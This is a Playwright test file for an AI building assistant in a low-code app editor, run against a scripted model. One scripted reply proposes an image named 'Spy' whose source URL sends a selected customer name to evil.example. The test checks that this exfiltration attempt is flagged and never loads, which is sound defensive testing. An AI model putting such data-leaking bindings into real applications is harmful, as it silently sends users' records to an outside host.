import { type ScriptedModel, startScriptedModel } from '@ashlar/integrations/scripted-model'
import { expect, type Locator, type Page, test } from '@playwright/test'
import { barriersInBothSchemes } from '../support/accessibility.ts'
import { beginBuilding, type Building } from '../support/building.ts'
import { scriptedBuilder, settingsFor, toolCall, using } from '../support/scripted-builder.ts'

test.describe.configure({ mode: 'serial' })

const sentence = 'A table of customers with a search and an edit form'
const hostile = 'https://evil.example/collect.png?rows={{ Customers.selectedRow.name }}'
const finish = (summary: string) => using(toolCall('finish', { summary }))

let model: ScriptedModel
let building: Building

test.beforeAll(async ({ browser }) => {
  model = await startScriptedModel(
    scriptedBuilder({
      [sentence]: [
        using(toolCall('read_page', {})),
        using(
          toolCall('propose_plan', {
            title: 'Customers',
            steps: ['A table of customers', 'A search above it', 'A form for the selected one'],
          }),
        ),
        {
          chunks: ['I begin with the **search**.'],
          toolCalls: [
            toolCall('add_component', { type: 'input', name: 'Search', properties: { label: 'Search' } }),
            toolCall('add_component', {
              type: 'table',
              name: 'Customers',
              properties: {
                tableData: "{{ [{ name: 'Ada' }].filter(({ name }) => name.includes(Search.value ?? '')) }}",
              },
            }),
          ],
        },
        using(toolCall('add_component', { type: 'form', name: 'Edit' })),
        finish('There is a table with a search, and a form for the selected customer.'),
      ],
      'Add a picture': [
        using(
          toolCall('add_component', { type: 'text', name: 'Hint', properties: { text: 'Look' } }),
          toolCall('add_component', { type: 'image', name: 'Spy', properties: { image: hostile } }),
          toolCall('add_component', { type: 'no such thing' }),
        ),
        finish('Done.'),
      ],
      'Add a button': [using(toolCall('add_component', { type: 'button', name: 'Go' })), finish('Done.')],
      'Fix this error.': [
        using(toolCall('set_properties', { component: 'Broken', properties: { text: 'Mended' } })),
        finish('The binding read what is not there.'),
      ],
      'Ask me': [
        using(toolCall('ask_person', { question: 'Which color?', choices: ['Red', 'Blue'] })),
        finish('As you like it.'),
      ],
      down: [{ status: 500, message: 'key-of-the-model' }],
      busy: [{ status: 429 }],
      never: [{ fault: 'silence' }],
      garbage: [{ fault: 'malformed', chunks: ['a', 'b'] }],
    }),
  )
  building = await beginBuilding(
    browser,
    'Customers',
    (page) => page.place('text', 'Broken', { left: 0, top: 0 }, { text: '{{ Nothing.here }}' }),
    settingsFor(model),
  )
})

test.afterAll(async () => {
  expect(building.olga.complaints).toEqual([])
  await building.end()
  await model.stop()
})

const page = (): Page => building.olga.page
const panel = (): Locator => page().getByRole('region', { name: 'Mason', exact: true })
const proposal = (): Locator => panel().getByRole('region', { name: 'Proposed changes', exact: true })
const wish = (): Locator => panel().getByRole('textbox', { name: 'What Mason is to do' })
const button = (name: string): Locator => panel().getByRole('button', { name, exact: true })
const widget = (name: string): Locator => building.editor.widget(name)

const ask = async (text: string): Promise<void> => {
  await wish().fill(text)
  await wish().press('Enter')
}

test('a sentence becomes an application: a plan, changes on the page, one step of undo', async () => {
  await page().goto('/home')
  await page().getByRole('button', { name: 'New', exact: true }).click()
  await page()
    .getByRole('menuitem', { name: /^Describe it/u })
    .click()
  const dialog = page().getByRole('dialog', { name: 'Describe an application' })
  expect(await barriersInBothSchemes(page(), { part: '[role="dialog"]' })).toEqual([])
  await dialog.getByRole('textbox', { name: 'What shall it do?' }).fill(sentence)
  await dialog.getByRole('button', { name: 'Create and build' }).click()
  await expect(panel().getByRole('group', { name: 'The plan' })).toContainText('A search above it')
  expect(await barriersInBothSchemes(page(), { part: 'section[aria-label="Mason"]' })).toEqual([])
  await button('Build it').click()
  await expect(panel()).toContainText('There is a table with a search')
  await expect(proposal()).toContainText('3 proposed changes')
  await expect(widget('Customers')).toHaveAttribute('data-proposed', 'added')
  await expect(widget('Customers')).toContainText('Ada')
  expect(await barriersInBothSchemes(page(), { part: 'section[aria-label="Mason"]' })).toEqual([])
  await button('Accept all').click()
  await expect(proposal()).toHaveCount(0)
  await expect(widget('Customers')).not.toHaveAttribute('data-proposed')
  await building.editor.isSaved()
  await building.editor.press('Control+z')
  await expect(widget('Customers')).toHaveCount(0)
  await building.editor.press('Control+Shift+z')
  await expect(widget('Edit')).toBeVisible()
  await building.editor.isSaved()
  await page().reload()
  await expect(widget('Customers')).toBeVisible()
})

test('what could carry data out stays out until it is ticked by itself, and some are accepted without the others', async () => {
  const asked: string[] = []
  page().on('request', (request) => asked.push(request.url()))
  await building.editor.open(building.applicationId)
  await building.editor.openPanel('Mason')
  await ask('Add a picture')
  await expect(proposal()).toContainText('Look at these first')
  const risk = proposal().getByRole('checkbox', { name: /puts data into an address/u })
  await expect(risk).not.toBeChecked()
  await expect(proposal().getByRole('checkbox').first()).toHaveAccessibleName(
    /^Spy\.image leads to another site/u,
  )
  await expect(proposal()).toContainText('Not made (1)')
  await expect(widget('Hint')).toBeVisible()
  await proposal().getByRole('checkbox', { name: /^Hint/u }).uncheck()
  await expect(widget('Hint')).toHaveCount(0)
  await button('Accept chosen (1)').click()
  await building.editor.isSaved()
  await expect(widget('Spy')).toHaveCount(1)
  expect(asked.filter((url) => url.includes('evil.example'))).toEqual([])
  await building.editor.press('Control+z')
  await expect(widget('Spy')).toHaveCount(0)
})

test('the page is as it was once everything is rejected, whatever the person does meanwhile', async () => {
  await ask('Add a button')
  await expect(widget('Go')).toBeVisible()
  await building.editor.add('Divider', 'Divider1')
  await building.editor.openPanel('Mason')
  await expect(widget('Go')).toBeVisible()
  await button('Reject').click()
  await expect(widget('Go')).toHaveCount(0)
  await expect(widget('Divider1')).toHaveCount(1)
  await building.editor.press('Control+z')
  await expect(widget('Divider1')).toHaveCount(0)
})

test('an error is mended from where it is told', async () => {
  await building.editor.select('Broken')
  await building.editor.properties.getByRole('button', { name: 'Fix this' }).first().click()
  await expect(widget('Broken')).toContainText('Mended')
  await expect(proposal()).toContainText('{{ Nothing.here }}')
  await button('Accept all').click()
  await building.editor.isSaved()
  await expect(building.editor.properties.getByRole('button', { name: 'Fix this' })).toHaveCount(0)
})

test('the keyboard alone asks, answers, stops and decides', async () => {
  await building.editor.canvas.focus()
  await page().keyboard.press('Control+k')
  await page().keyboard.type('Open Mason')
  await page().keyboard.press('Enter')
  await expect(wish()).toBeFocused()
  await page().keyboard.type('Ask me')
  await page().keyboard.press('Enter')
  await expect(panel().getByRole('button', { name: 'Red' })).toBeFocused()
  await page().keyboard.press('Tab')
  await page().keyboard.press('Enter')
  await expect(panel()).toContainText('As you like it.')
  await wish().focus()
  await page().keyboard.type('never')
  await page().keyboard.press('Enter')
  await expect(button('Stop')).toBeVisible()
  await expect.poll(() => model.seen.at(-1)?.body).toContain('never')
  await page().keyboard.press('Escape')
  await expect(panel()).toContainText('Stopped.')
  await expect.poll(() => model.cancelled.length).toBe(1)
})

test('a provider that is down, busy or talks nonsense is told in our own words', async () => {
  await ask('down')
  await expect(panel().getByRole('alert').last()).toHaveText(
    /Oops, looks like AI service is unavailable\. Try again now or later\./u,
  )
  await expect(panel()).not.toContainText('key-of-the-model')
  await ask('busy')
  await expect(panel().getByRole('alert').last()).toContainText('asked too much')
  await expect(button('Try again')).toBeVisible()
  await ask('garbage')
  await expect(panel().getByRole('alert')).toHaveCount(3)
})

test('an owner settles what leaves, and turns it off', async () => {
  await page().goto('/general/assistant')
  const form = page().locator('main')
  expect(await barriersInBothSchemes(page())).toEqual([])
  await form.getByRole('radio', { name: 'Also sample values' }).check()
  await form.getByRole('switch', { name: 'Let builders use the assistant' }).uncheck({ force: true })
  await form.getByRole('button', { name: 'Save changes' }).click()
  await expect(page().getByText('The settings were saved.')).toBeVisible()
  await building.editor.open(building.applicationId)
  await expect(page().getByRole('navigation', { name: 'Editor panels' })).toBeVisible()
  await expect(page().getByRole('button', { name: 'Mason', exact: true })).toHaveCount(0)
})
